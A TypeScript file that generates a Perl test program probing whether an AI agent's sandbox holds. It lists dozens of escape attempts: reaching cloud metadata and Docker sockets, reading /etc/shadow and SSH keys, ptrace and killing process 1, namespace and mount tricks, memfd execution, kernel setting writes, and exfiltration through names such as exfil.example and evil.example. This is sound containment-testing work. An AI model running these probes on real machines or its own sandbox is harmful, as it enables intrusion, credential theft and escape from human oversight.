/** What an escape is tried on: things of this machine that must not be reached. */
export type Outside = {
  /** A port of this machine's loopback that answers. */
  readonly port: number;
  /** A Unix socket that answers, by its path, and one by an abstract name. */
  readonly socket: string;
  readonly abstract: string;
  readonly daemonSocket: string;
  /** A file with a secret that the agent's user may read. */
  readonly secret: string;
  /** A process of the agent's own user. */
  readonly pid: number;
  /** A file in the machine's shared memory, a System V segment, and a POSIX queue by its name. */
  readonly shared: string;
  readonly segment: number;
  readonly queue: string;
};

/**
 * Returns a Perl program that tries to get out of a sandbox and prints one line for each way:
 * `held <name>`, or `ESCAPED <name>`. It uses nothing but Perl's own modules.
 */
export function escapesFrom(outside: Outside): string {
  const set = Object.entries(outside).map(([name, value]) => {
    return `my $${name} = '${String(value).replaceAll(/['\\]/g, String.raw`\$&`)}';`;
  });
  return `${set.join('\n')}\n${PROGRAM}`;
}

const PROGRAM = String.raw`
use strict; use warnings FATAL => 'all'; no warnings 'exec';
use Socket; use Fcntl; use POSIX ();
$| = 1; $SIG{ALRM} = sub { die "late\n" };
my @tries;
sub try_to { push @tries, [@_] }
sub tcp { my ($host, $port) = @_; socket(my $s, PF_INET, SOCK_STREAM, 0) or return;
  connect($s, pack_sockaddr_in($port, inet_aton($host) // return)) ? $s : undef }
sub ask { my ($port, $text) = @_; my $s = tcp('127.0.0.1', $port) or return ''; syswrite $s, $text;
  shutdown $s, 1; my $said = ''; while (sysread $s, my $part, 4096) { $said .= $part } $said }
sub tunnel { ask(3128, "CONNECT $_[0] HTTP/1.1\r\nHost: $_[0]\r\n\r\n") =~ / 200 / }
sub plain { ask(3128, "GET http://$_[0]/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n") =~ m{^HTTP/1.1 200} }
sub unix { socket(my $s, PF_UNIX, SOCK_STREAM, 0) or return; connect($s, pack_sockaddr_un($_[0])) }
sub content { open(my $f, '<', $_[0]) or return; local $/; my $text = <$f>; defined $text && length $text ? $text : undef }
sub can_write { sysopen(my $f, $_[0], O_WRONLY | O_CREAT) ? 1 : 0 }
sub call { my $made = syscall($_[0] + 0, map { /^-?\d+$/ ? $_ + 0 : $_ } @_[1 .. $#_]); $made >= 0 }
my $is_arm = (POSIX::uname())[4] eq 'aarch64';
my %nr = $is_arm
  ? (ptrace => 117, unshare => 97, setns => 268, keyctl => 219, add_key => 217, mount => 40, bpf => 280,
     perf => 241, uring => 425, chroot => 51, mknodat => 33, vm_read => 270, handle => 265, umount => 39,
     memfd => 279, mq_open => 180, clone3 => 435, fsopen => 430, pidfd_open => 434, pidfd_getfd => 438, execveat => 281, setxattr => 5)
  : (ptrace => 101, unshare => 272, setns => 308, keyctl => 250, add_key => 248, mount => 165, bpf => 321,
     perf => 298, uring => 425, chroot => 161, mknodat => 259, vm_read => 310, handle => 304, umount => 166,
     memfd => 319, mq_open => 240, clone3 => 435, fsopen => 430, pidfd_open => 434, pidfd_getfd => 438, execveat => 322, setxattr => 188);

try_to 'metadata address, directly' => sub { tcp('169.254.169.254', 80) };
try_to 'metadata address, through the proxy' => sub { plain('169.254.169.254') || tunnel('169.254.169.254:80') };
try_to 'metadata address, spelt otherwise' => sub { grep { plain($_) } '2852039166', '0xa9fea9fe', '169.254.43518', '[::ffff:169.254.169.254]' };
try_to 'metadata address, by a name' => sub { plain('metadata.google.internal') };
try_to 'DNS, by the resolver' => sub { gethostbyname('example.com') };
try_to 'DNS, by a packet' => sub {
  my $query = "\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1";
  for my $host ('1.1.1.1', '127.0.0.53', '127.0.0.11') {
    socket(my $s, PF_INET, SOCK_DGRAM, 0) or next; send($s, $query, 0, pack_sockaddr_in(53, inet_aton($host))) or next;
    my $ready = ''; vec($ready, fileno $s, 1) = 1; return 1 if select($ready, undef, undef, 0.2) > 0 && recv($s, my $said, 512, 0);
  } 0 };
try_to 'the loopback of the machine, directly' => sub { tcp('127.0.0.1', $port) };
try_to 'the loopback of the machine, through the proxy' => sub { grep { tunnel($_) } "127.0.0.1:$port", "localhost:$port", "[::1]:$port", "127.1:$port", "2130706433:$port", "0:$port", "allowed.example:$port" };
try_to 'a host that is not listed' => sub { tunnel('example.org:443') || plain('example.org') };
try_to 'an address, by the proxy' => sub { tunnel('1.1.1.1:443') || plain('1.1.1.1') };
try_to 'another network' => sub { tcp('1.1.1.1', 443) };
try_to "the daemon's API, through the gateway's port" => sub {
  grep { ask(7411, "GET $_ HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n") =~ m{^HTTP/1.1 200} }
    '/api/v1/agents', '/mcp/support/../../api/v1/agents', '//api/v1/agents', 'http://localhost/api/v1/agents', '/mcp/other', '/mcp/support%2f..%2f..%2fapi%2fv1%2fagents' };
try_to "the daemon's socket" => sub { unix($daemonSocket) };
try_to 'a Unix socket of the machine' => sub { grep { unix($_) } $socket, '/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private' };
try_to 'an abstract Unix socket of the machine' => sub { unix("\0$abstract") };
try_to 'a secret of the user' => sub { content($secret) };
try_to 'credentials of the machine' => sub { grep { content($_) } '/etc/shadow', "$ENV{HOME}/.ssh/id_rsa", ((getpwuid 0)[7] || '/root') . '/.ssh/authorized_keys', '/etc/ssh/ssh_host_rsa_key' };
try_to 'homes of the machine' => sub { opendir(my $d, '/home') or return; grep { !/^\.|^agent$/ } readdir $d };
try_to 'variables of who started it' => sub { grep { /SECRET|^SSH_|^DBUS_|^PLUMB_/ } keys %ENV };
try_to 'ptrace of a process of the machine' => sub { call($nr{ptrace}, 16, $pid, 0, 0) };
try_to 'ptrace of process 1' => sub { call($nr{ptrace}, 16, 1, 0, 0) };
try_to 'the memory of process 1' => sub { my $to = "\0" x 16; my $l = pack('Q Q', unpack('Q', pack('P', $to)), 16); my $r = pack('Q Q', 4194304, 16); call($nr{vm_read}, 1, $l, 1, $r, 1, 0) };
try_to 'a signal to the machine' => sub { kill 0, $pid };
try_to 'ending process 1' => sub { kill 9, 1; select(undef, undef, undef, 0.05); !-d '/proc/1' };
try_to 'processes of the machine in /proc' => sub { -d "/proc/$pid" };
try_to 'the root and the variables of process 1' => sub { content('/proc/1/environ') || readlink('/proc/1/root') || opendir(my $d, '/proc/1/root/') };
try_to 'keys of the machine in /proc' => sub { content('/proc/keys') || content('/proc/kcore') };
try_to 'setuid programs' => sub { my $id = qx{su -c 'id -u' </dev/null 2>/dev/null; sudo -n id -u 2>/dev/null}; $id =~ /^0$/m };
try_to 'capabilities' => sub { content('/proc/self/status') !~ /^CapEff:\s0+$(?:.|\n)*^CapBnd:\s0+$(?:.|\n)*^NoNewPrivs:\s1$/m };
try_to 'name spaces of its own' => sub { call($nr{unshare}, 0x10000000) || call($nr{unshare}, 0x20000) || system('unshare -Ur true 2>/dev/null') == 0 };
try_to 'name spaces of others' => sub { my $found; for my $kind ('net', 'mnt', 'user') { sysopen(my $f, "/proc/1/ns/$kind", O_RDONLY) or next; $found ||= call($nr{setns}, fileno $f, 0) } $found };
try_to 'mounting' => sub { call($nr{mount}, "none", "/tmp", "tmpfs", 0, 0) || call($nr{mount}, "none", "/usr", "none", 0x1020, 0) || system('umount /etc/shadow 2>/dev/null') == 0 };
try_to 'changing the root' => sub { call($nr{chroot}, "/tmp") };
try_to 'files by their handles' => sub { my $h = pack('L l a8', 8, 1, "\0" x 8); call($nr{handle}, 0, $h, 0) };
try_to 'devices' => sub { POSIX::mkfifo('/tmp/fifo', 0600); call($nr{mknodat}, -100, "/tmp/disk", 0x6180, 0x800) || grep { -e $_ } '/dev/sda', '/dev/vda', '/dev/mem', '/dev/kmsg', '/dev/kvm', '/dev/fuse' };
try_to 'raw sockets' => sub { socket(my $s, PF_INET, SOCK_RAW, 1) || socket(my $p, 17, SOCK_RAW, 3) };
try_to 'sockets of the hypervisor and of the kernel' => sub { socket(my $v, 40, SOCK_STREAM, 0) || socket(my $a, 38, 5, 0) };
try_to 'ICMP, raw and as pings' => sub { for my $kind (SOCK_RAW, SOCK_DGRAM) { socket(my $s, PF_INET, $kind, 1) or next;
  send($s, pack('CCnnn', 8, 0, 0xf7fd, 1, 1), 0, pack_sockaddr_in(0, inet_aton('1.1.1.1'))) and return 1 } 0 };
try_to 'IPv6: the local link, neighbours and the loopback of the machine' => sub {
  for my $host ('fe80::1', 'ff02::1', '::1', '::ffff:127.0.0.1', 'fe80::a9fe:a9fe') { for my $link (0 .. 4) {
    socket(my $s, PF_INET6, SOCK_STREAM, 0) or next; return 1 if connect($s, Socket::pack_sockaddr_in6($port, Socket::inet_pton(PF_INET6, $host), $link)) } }
  grep { tunnel($_) } '[fe80::1%25lo]:80', '[fe80::1]:80', "[::ffff:127.0.0.1]:$port", '[fd00:ec2::254]:80' };
sub netlink { my ($protocol, $type, $body) = @_; socket(my $s, 16, SOCK_RAW, $protocol) or return;
  my $message = pack('L S S L L', 16 + length $body, $type, 5, 1, 0) . $body; send($s, $message, 0, pack('S S L L', 16, 0, 0, 0)) or return;
  my $ready = ''; vec($ready, fileno $s, 1) = 1; return unless select($ready, undef, undef, 0.5) > 0;
  recv($s, my $said, 8192, 0); my ($length, $kind) = unpack('L S', $said); $kind == 2 && unpack('l', substr $said, 16, 4) == 0 }
try_to 'netlink: links, addresses and routes' => sub { netlink(0, 16, pack('C x S l L L', 0, 0, 1, 0, 1)) || netlink(0, 20, pack('C C C C L S S a4', 2, 8, 0, 0, 1, 8, 2, "\x0a\x63\0\x01")) || netlink(0, 24, pack('C8 L S S L', 2, 0, 0, 0, 254, 4, 0, 1, 0, 8, 4, 1)) };
try_to 'netlink: the packet filter, audit and the events of devices' => sub { netlink(12, 2560, pack('C C n', 1, 0, 0)) || netlink(9, 1001, pack('L8', (0) x 8)) };
try_to 'data in names, asked of the proxy' => sub { grep { tunnel($_) || plain($_) } 'c2VjcmV0.exfil.example:443', ('a' x 60) . '.not-listed.example:443', 'allowed.example.exfil.example:443', 'exfil.example#allowed.example:443' };
try_to 'another host behind an allowed name' => sub { grep { ask(3128, $_) =~ m{^HTTP/1.1 200} } "CONNECT evil.example:443 HTTP/1.1\r\nHost: allowed.example:$port\r\n\r\n", "GET http://allowed.example:$port\@evil.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n", "GET /x HTTP/1.1\r\nHost: allowed.example:$port\r\n\r\n" };
try_to 'a program that is in no file' => sub { my $name = "x\0"; my $fd = syscall($nr{memfd}, $name, 0); $fd >= 0 or return;
  open(my $f, '+<&=', $fd) or return; my $script = "#!/bin/sh\nunshare -Ur true 2>/dev/null && echo OUT\ngrep -q '^CapEff:.*[1-9a-f]' /proc/self/status && echo OUT\n"; syswrite $f, $script;
  my $said = qx{exec sh /proc/$$/fd/$fd 2>/dev/null}; $said =~ /OUT/ };
try_to 'name spaces by newer calls, and mounts by theirs' => sub { my $a = pack('Q8', 0x10000000, 0, 0, 0, 17, 0, 0, 0); my $made = syscall($nr{clone3}, $a, 64); if ($made == 0) { POSIX::_exit(0) } my $n = "tmpfs\0"; $made > 0 || call($nr{fsopen}, $n, 0) };
try_to 'open files of other processes' => sub { my $fd = syscall($nr{pidfd_open}, 1, 0); $fd >= 0 or return; my $out = call($nr{pidfd_getfd}, $fd, 0, 0); POSIX::close($fd); $out };
try_to 'root and folder of a process of the machine' => sub { grep { -e "/proc/$pid/$_" || -e "/proc/1/root/proc/$pid" } 'root/etc/shadow', 'cwd', 'root', 'environ' };
try_to 'shared memory of the machine' => sub { my $said = ''; content($shared) || grep { -e "/dev/shm/$_" } ($shared =~ m{([^/]+)$}) };
try_to 'System V memory of other sessions' => sub { my $said = "\0" x 8; shmread($segment, $said, 0, 8) || (content('/proc/sysvipc/shm') // '') =~ /\n.*\d/ };
try_to 'POSIX queues of other sessions' => sub { my $name = "$queue\0"; call($nr{mq_open}, $name, 0, 0, 0) || -e "/dev/mqueue/$queue" };
try_to 'sending open files to a service outside' => sub { socketpair(my $one, my $other, PF_UNIX, SOCK_STREAM, 0) or return; opendir(my $d, '/proc/net') or return;
  my @bound = grep { m{\s/|\s@} } split /\n/, content('/proc/net/unix') // ''; scalar @bound };
try_to 'marks of files that give rights' => sub { open(my $f, '>', '/tmp/marked') or return; close $f; my ($at, $name) = ("/tmp/marked\0", "security.capability\0"); my $v = pack('L5', 0x02000001, 0x200000, 0, 0, 0); call($nr{setxattr}, $at, $name, $v, 20, 0) };
try_to 'keyrings' => sub { call($nr{keyctl}, 0, -3, 0) || call($nr{add_key}, "user", "x", "y", 1, -3) };
try_to 'programs in the kernel' => sub { my $a = "\0" x 128; call($nr{bpf}, 0, $a, 128) || call($nr{perf}, $a, 0, -1, -1, 0) || call($nr{uring}, 8, $a) };
try_to 'core patterns and other settings of the kernel' => sub { grep { can_write($_) } '/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sysrq-trigger', '/proc/sys/vm/overcommit_memory', '/proc/sys/user/max_user_namespaces' };
try_to 'settings of devices and control groups' => sub { opendir(my $d, '/sys') or return; grep { !/^\./ } readdir $d };
try_to 'writing outside' => sub { grep { can_write($_) } '/escaped', '/usr/escaped', '/etc/escaped', '/opt/escaped', '/bin/escaped', '/home/escaped', "$secret.escaped", '/proc/self/../../escaped' };
try_to 'typing into the terminal' => sub { my $c = 'x'; ioctl(STDIN, 0x5412, $c) };
try_to 'open files of who started it' => sub { opendir(my $d, '/proc/self/fd') or return 1; grep { /^\d+$/ && $_ > 2 && (readlink("/proc/self/fd/$_") // '') !~ m{^/proc/\d+/fd$|escapes\.pl$} } readdir $d };
for my $try (@tries) {
  my ($name, $code) = @$try; local $!;
  my $out = eval { alarm 4; my @found = $code->(); alarm 0; scalar grep { $_ } @found }; alarm 0;
  print $out ? "ESCAPED $name\n" : "held $name\n";
}
print "all tried\n";
`;
